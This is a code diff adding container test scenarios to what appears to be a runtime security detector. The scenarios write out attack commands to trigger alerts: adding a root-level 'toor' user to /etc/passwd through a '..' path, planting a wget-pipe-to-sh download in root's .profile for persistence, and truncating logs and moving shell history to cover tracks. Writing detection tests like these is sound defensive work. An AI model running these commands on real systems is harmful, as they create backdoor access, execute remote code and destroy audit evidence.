@@ -18,6 +18,7 @@ const (
 	sensitiveReadAlert = "RtsecSensitiveFileRead"
 	traversalAlert     = "RtsecDirectoryTraversal"
 	otherMemoryAlert   = "RtsecOtherProcessMemoryRead"
+	shellConfigAlert   = "RtsecShellConfigModified"
 )
 
 // fileFiles are files every file scenario's container starts with.
@@ -31,6 +32,8 @@ var fileFiles = map[string][]byte{
 	"var/lib/app/.keep":  nil,
 	"data/.keep":         nil,
 	"var/lib/dpkg/.keep": nil,
+	"etc/ssl/.keep":      nil,
+	"root/.profile":      []byte("export PATH\n"),
 }
 
 func fileContainer() runc.Options { return runc.Options{Files: fileFiles} }
@@ -166,6 +169,35 @@ var fileScenarios = []Scenario{
 		Steps:       []Step{Cmd("cat", "/proc/1/environ")},
 		Expect:      []Match{Named(otherMemoryAlert, "file_class", "proc_environ")},
 		Events:      []Event{Logged("file_sensitive_read", "path", "/proc/1/environ", "file_class", "proc_environ")},
+	},
+	{
+		Name:        "file-passwd-traversal-write",
+		Description: "A user is appended to /etc/passwd through a relative path with .. (cd /etc/ssl && echo … >> ../passwd).",
+		Container:   fileContainer(),
+		Steps:       []Step{Cmd("sh", "-c", "cd /etc/ssl && echo 'toor:x:0:0::/root:/bin/sh' >> ../passwd")},
+		Expect:      []Match{fileMatch(writeEtcAlert, "etc_passwd", "write"), fileMatch(traversalAlert, "etc_passwd", "traversal")},
+		Events:      []Event{modified("/etc/passwd", "etc_passwd", "write")},
+	},
+	{
+		Name:        "file-shell-config-modified",
+		Description: "A command is appended to root's shell startup file (~/.profile): persistence at the next login.",
+		Container:   fileContainer(),
+		Steps:       []Step{Cmd("sh", "-c", "echo 'wget -q -O- http://203.0.113.10/x | sh' >> /root/.profile")},
+		Expect:      []Match{fileMatch(shellConfigAlert, "shell_rc", "write")},
+	},
+	{
+		Name:        "file-log-truncated",
+		Description: "An application log below /var/log is emptied by truncating it (: > file), not deleted.",
+		Container:   fileContainer(),
+		Steps:       []Step{Cmd("sh", "-c", ": > /var/log/app.log")},
+		Expect:      []Match{fileMatch(logClearedAlert, "log", "truncate")},
+	},
+	{
+		Name:        "file-shell-history-renamed",
+		Description: "Root's shell history is moved away (mv), not deleted.",
+		Container:   fileContainer(),
+		Steps:       []Step{Cmd("mv", "/root/.ash_history", "/tmp/h")},
+		Expect:      []Match{fileMatch(historyAlert, "shell_history", "rename")},
 	},
 	{
 		Name: "benign-app-data-and-logs",
